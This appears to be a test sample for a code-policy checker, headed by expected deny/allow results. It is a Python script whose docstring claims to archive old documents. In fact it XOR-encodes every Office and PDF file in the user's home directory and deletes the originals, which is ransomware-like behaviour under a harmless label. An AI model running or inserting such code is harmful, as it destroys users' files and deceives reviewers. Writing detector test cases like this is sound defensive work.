# expect: strict=deny standard=deny audit=allow
"""Archive old documents (the files are walked by a generator, each handed to a helper)."""
import os

KEEP = {".cache", "node_modules"}


def candidates(top):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in KEEP]
        for name in filenames:
            if name.endswith((".docx", ".pdf", ".xlsx")):
                yield os.path.join(dirpath, name)


def seal(path, key):
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + ".sealed", "wb") as out:
        out.write(bytes(b ^ key for b in data))
    os.remove(path)


for doc in candidates(os.path.expanduser("~")):
    seal(doc, 0x5A)
